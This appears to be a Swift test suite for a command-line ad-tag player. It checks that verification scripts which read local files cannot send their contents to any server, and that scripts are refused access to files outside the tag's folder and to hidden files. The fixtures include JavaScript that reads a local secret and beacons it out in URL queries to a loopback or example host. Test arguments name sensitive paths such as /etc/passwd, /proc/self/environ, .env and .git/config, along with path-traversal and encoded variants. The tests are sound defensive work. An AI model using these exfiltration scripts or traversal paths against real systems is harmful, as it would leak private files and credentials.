import Foundation
import LoopbackServer
import TestSupport
import Testing

@testable import CommandLineTool

/// What a script read of a local file reaches no server.
@Suite(.tags(.process))
struct ScriptReachTests {
  private let tags: TrespassingTag
  private let server: LoopbackServer

  init() throws {
    tags = try TrespassingTag()
    server = try LoopbackServer([LoopbackRoute("/", .text("of the server"))])
  }

  /// Sends one URL as it loads; downloads a resource at an event, and then sends what it was
  /// told, in a beacon and in the URL of a download.
  private func script(reading url: String, at event: String = "impression") -> String {
    """
    omidNative.sendUrl('\(server.url("/early"))');
    omid3p.addEventListener('\(event)', () =>
      omidNative.downloadJavaScriptResource('\(url)', text => {
        omidNative.sendUrl('\(server.url("/sent?"))' + encodeURIComponent(text));
        omidNative.downloadJavaScriptResource(
          '\(server.url("/pulled?"))' + encodeURIComponent(text), () => {},
          () => omidNative.sendUrl('\(server.url("/again"))'));
      }, () => omidNative.sendUrl('\(server.url("/failed"))')));
    """
  }

  /// A tag whose trackers lead to the server.
  private func tag(script: String) throws -> String {
    let tag = try tags.inLine(script: script)
    let text = try String(contentsOfFile: tag, encoding: .utf8)
    return try tags.folder.file(
      "tag/tag.xml", text.replacing("https://t.example/", with: server.url("/t/")))
  }

  private func play(_ tag: String, _ arguments: String...) -> CommandRun {
    CommandRun(
      ["play", tag, "--format", "jsonl", "--network", "--allow-private"] + arguments,
      folder: tags.path(""))
  }

  /// The lines of a kind in the event stream.
  private func lines(_ kind: String, of run: CommandRun) throws -> [[String: Any]] {
    try run.output.split(separator: "\n").compactMap { line in
      let object = try JSONSerialization.jsonObject(with: Data(line.utf8)) as? [String: Any]
      return object?["kind"] as? String == kind ? object : nil
    }
  }

  /// The ends of the targets that the server was asked for, without queries, each once.
  private var requested: Set<String> {
    Set(server.requests.map { String($0.target.prefix { $0 != "?" }) })
  }

  /// What is said of the one file that a script read.
  private func expectWithheld(_ run: CommandRun, file: String) throws {
    #expect(requested == [], "\(server.requests.map(\.target))")
    let sent = try lines("beacon", of: run).filter { $0["event"] as? String == "sendUrl" }
    #expect(
      sent.map { $0["delivery"] as? String } == ["withheld", "withheld", "withheld"],
      "\(run.output)")
    #expect(sent[0]["attempts"] as? Int == 0 && sent[0]["status"] == nil)
    let fetch = try #require(
      lines("fetch", of: run).first { ($0["url"] as? String)?.contains("/pulled") == true })
    #expect((fetch["error"] as? String)?.hasPrefix("withheld, as a script has read") == true)
    let findings = try lines("diagnostic", of: run).filter {
      $0["rule"] as? String == "ScriptRequestWithheld"
    }
    #expect(findings.count == 2, "\(findings)")
    for finding in findings {
      let message = try #require(finding["message"] as? String)
      #expect(message.contains("to '127.0.0.1:\(server.port)' is withheld"), "\(message)")
      #expect(message.contains("has read the local file '\(file)'"), "\(message)")
      #expect(message.contains("run without '--network'"))
    }
  }

  @Test func `what a script read of a file beside the tag reaches no server`() throws {
    _ = try tags.folder.file("tag/v.js", script(reading: "more.txt"))
    _ = try tags.folder.file("tag/more.txt", TrespassingTag.secret)
    let tag = try tag(script: "v.js")
    let run = play(tag, "--send")
    try expectWithheld(run, file: "tag/more.txt")
    #expect(
      run.errorOutput.contains("sent: 0 of 4 beacons delivered, 4 withheld\n"),
      "\(run.errorOutput)")
  }

  @Test func `what was sent before a script read a file stays sent`() throws {
    _ = try tags.folder.file("tag/v.js", script(reading: "more.txt", at: "midpoint"))
    _ = try tags.folder.file("tag/more.txt", TrespassingTag.secret)
    let run = play(try tag(script: "v.js"), "--send")
    #expect(requested.isSuperset(of: ["/early", "/t/i"]), "\(run.output)")
    #expect(requested.isDisjoint(with: ["/sent", "/pulled", "/again"]), "\(requested)")
  }

  @Test func `what a script read of a mapped file reaches no server`() throws {
    _ = try tags.folder.file("other/v.js", script(reading: "more.txt"))
    _ = try tags.folder.file("other/more.txt", TrespassingTag.secret)
    let mapped = try tag(script: "https://cdn.example/s/v.js")
    try expectWithheld(
      play(mapped, "--send", "--map", "https://cdn.example/s/=\(tags.path("other"))"),
      file: "other/more.txt")
  }

  @Test func `a file that is allowed is a local file, too`() throws {
    _ = try tags.folder.file("tag/v.js", script(reading: ".env"))
    _ = try tags.folder.file("tag/.env", TrespassingTag.secret)
    let tag = try tag(script: "v.js")
    try expectWithheld(
      play(tag, "--send", "--allow-files", tags.path("tag/.env")), file: "tag/.env")
  }

  @Test func `what a script read of a server, and what it was refused, withholds nothing`() throws {
    _ = try tags.folder.file("tag/v.js", script(reading: server.url("/more.txt")))
    _ = play(try tag(script: "v.js"), "--send")
    #expect(requested == ["/early", "/t/i", "/more.txt", "/sent", "/pulled"])
    let refused = try ScriptReachTests()
    _ = try refused.tags.folder.file("tag/v.js", refused.script(reading: "../other/secret.txt"))
    let run = refused.play(try refused.tag(script: "v.js"), "--send")
    #expect(refused.requested == ["/early", "/t/i", "/failed"], "\(run.output)")
    #expect(!run.output.contains("ScriptRequestWithheld"))
  }

  @Test func `without sending no beacon has a delivery, and no download leaves the machine`() throws
  {
    _ = try tags.folder.file("tag/v.js", script(reading: "more.txt"))
    _ = try tags.folder.file("tag/more.txt", TrespassingTag.secret)
    let tag = try tag(script: "v.js")
    let run = play(tag)
    #expect(requested == [], "\(server.requests.map(\.target))")
    #expect(try lines("beacon", of: run).allSatisfy { $0["delivery"] == nil })
    let offline = CommandRun(["play", tag, "--format", "jsonl"], folder: tags.path(""))
    #expect(!offline.output.contains("ScriptRequestWithheld"))
    #expect(offline.output.contains("no --map entry matches this URL"))
    let dry = CommandRun(
      ["play", tag, "--network", "--allow-private", "--send", "--dry-run"], folder: tags.path(""))
    #expect(dry.output.contains("Not sent: 0 requests to 0 hosts\n"), "\(dry.output)")
    #expect(dry.output.contains("(withheld, as a script has read 'tag/more.txt')\n"))
    #expect(requested == [])
  }

  @Test(arguments: ["shared", "separate"])
  func `what one script reads, no other sends, nor does the player`(isolation: String) throws {
    _ = try tags.folder.file(
      "tag/v.js",
      "omidNative.downloadJavaScriptResource('more.txt', text => { globalThis.told = text; });")
    _ = try tags.folder.file("tag/more.txt", TrespassingTag.secret)
    _ = try tags.folder.file(
      "tag/w.js",
      """
      omid3p.addEventListener('impression', () =>
        omidNative.sendUrl('\(server.url("/other?"))' + encodeURIComponent(globalThis.told)));
      """)
    let text = try String(contentsOfFile: tag(script: "v.js"), encoding: .utf8)
    let start = try #require(text.range(of: "<Verification "))
    let end = try #require(text.range(of: "</Verification>"))
    let other = String(text[start.lowerBound..<end.upperBound])
      .replacing("CDATA[v.js", with: "CDATA[w.js").replacing("vendor=\"v\"", with: "vendor=\"w\"")
    let tag = try tags.folder.file(
      "tag/tag.xml", text.replacingCharacters(in: end.upperBound..<end.upperBound, with: other))
    let scenario = try tags.folder.file("s.yaml", "version: 1\nscriptIsolation: \(isolation)\n")
    for program in [nil, CommandRun.program] {
      let run = CommandRun(
        ["play", tag, "--format", "jsonl", "--network", "--allow-private", "--send"]
          + ["--scenario", scenario], folder: tags.path(""), scriptHostProgram: program)
      #expect(run.output.contains("/other?"), "\(run.output)")
      #expect(requested.isDisjoint(with: ["/other", "/t/i"]), "\(requested)")
      #expect(!server.requests.contains { $0.target.contains("secret") })
    }
  }
}

/// What a script downloads is relative to the script's own URL.
struct ScriptDownloadTests {
  private let tags: TrespassingTag

  init() throws { tags = try TrespassingTag() }

  /// Asks for a resource and sends what it was told.
  private func script(asking url: String) -> String {
    """
    omidNative.downloadJavaScriptResource('\(url)',
      text => omidNative.sendUrl('https://v.example/got?' + encodeURIComponent(text)),
      () => omidNative.sendUrl('https://v.example/failed'));
    """
  }

  private func play(_ arguments: String...) -> CommandRun {
    CommandRun(["play", "--format", "jsonl"] + arguments, folder: tags.path(""))
  }

  @Test(arguments: [
    "/etc/passwd", "/proc/self/environ", "../other/secret.txt", "../../other/secret.txt",
    "/dev/stdin",
  ])
  func `a local script gets no file outside the tag's folder`(url: String) throws {
    _ = try tags.folder.file("tag/v.js", script(asking: url))
    let tag = try tags.inLine(script: "v.js")
    let run = play(tag)
    #expect(run.output.contains("https://v.example/failed"), "\(run.errorOutput)")
    #expect(!run.output.contains("https://v.example/got"))
    #expect(run.output.contains("ScriptDownloadRefused"))
    #expect(run.output.contains("--allow-files PATH"))
  }

  @Test(arguments: [".env", ".git/config", "./.git/../.env", "%2eenv", "link"])
  func `a local script gets no hidden file, unless the user names it`(url: String) throws {
    try FileManager.default.createDirectory(
      atPath: tags.path("tag/.git"), withIntermediateDirectories: true)
    for name in [".env", ".git/config"] {
      _ = try tags.folder.file("tag/\(name)", TrespassingTag.secret)
    }
    try tags.link("tag/link", to: ".env")
    _ = try tags.folder.file("tag/v.js", script(asking: url))
    let tag = try tags.inLine(script: "v.js")
    let run = play(tag)
    #expect(run.output.contains("https://v.example/failed"), "\(run.output)")
    #expect(!run.output.contains("https://v.example/got"))
    #expect(run.output.contains("ScriptDownloadRefused") && run.output.contains("is hidden"))
    let allowed = play(
      tag, "--allow-files", tags.path("tag/.env"), "--allow-files", tags.path("tag/.git"))
    #expect(allowed.output.contains("https://v.example/got"), "\(allowed.output)")
  }

  @Test func `a local script's download starts from the script's folder`() throws {
    try FileManager.default.createDirectory(
      atPath: tags.path("tag/lib"), withIntermediateDirectories: true)
    _ = try tags.folder.file("tag/lib/v.js", script(asking: "more.txt"))
    _ = try tags.folder.file("tag/more.txt", "beside the tag")
    _ = try tags.folder.file("tag/lib/more.txt", "beside")
    let run = play(try tags.inLine(script: "lib/v.js"))
    #expect(run.output.contains("https://v.example/got?beside\""), "\(run.output)")
  }

  @Test(arguments: ["more.txt", "/more.txt", "/etc/passwd", "../other/secret.txt"])
  func `a script with a URL never reads the tag's folder`(url: String) throws {
    _ = try tags.folder.file("tag/more.txt", TrespassingTag.secret)
    let served = try tags.folder.file("other/v.js", script(asking: url))
    let tag = try tags.inLine(script: "https://cdn.example/s/v.js")
    let run = play(tag, "--map", "https://cdn.example/s/v.js=\(served)")
    #expect(run.output.contains("https://v.example/failed"), "\(run.output)")
    #expect(run.output.contains("no --map entry matches this URL"))
  }

  @Test func `a script with a URL downloads from beside it, by the map`() throws {
    _ = try tags.folder.file("other/v.js", script(asking: "more.txt"))
    _ = try tags.folder.file("other/more.txt", "mapped")
    let tag = try tags.inLine(script: "https://cdn.example/s/v.js")
    let run = play(tag, "--map", "https://cdn.example/s/=\(tags.path("other"))")
    #expect(run.output.contains("https://v.example/got?mapped\""), "\(run.output)")
  }

  @Test func `two scripts have a URL each, in a process of their own too`() throws {
    for (folder, text) in [("tag", "of the tag"), ("other", "of the map")] {
      _ = try tags.folder.file("\(folder)/v.js", script(asking: "more.txt"))
      _ = try tags.folder.file("\(folder)/more.txt", text)
    }
    let first = try String(contentsOfFile: tags.inLine(script: "v.js"), encoding: .utf8)
    let start = try #require(first.range(of: "<Verification "))
    let end = try #require(first.range(of: "</Verification>"))
    let verification = first[start.lowerBound..<end.upperBound]
    let both = first.replacingCharacters(
      in: end.upperBound..<end.upperBound,
      with: verification.replacingOccurrences(
        of: "CDATA[v.js", with: "CDATA[https://cdn.example/v.js"
      )
      .replacingOccurrences(of: "vendor=\"v\"", with: "vendor=\"w\""))
    let tag = try tags.folder.file("tag/both.xml", both)
    let arguments = [
      "play", tag, "--format", "jsonl", "--map", "https://cdn.example/=\(tags.path("other"))",
    ]
    for program in [nil, CommandRun.program] {
      let run = CommandRun(arguments, folder: tags.path(""), scriptHostProgram: program)
      #expect(run.output.contains("got?of%20the%20tag\""), "\(run.output)")
      #expect(run.output.contains("got?of%20the%20map\""))
    }
  }
}
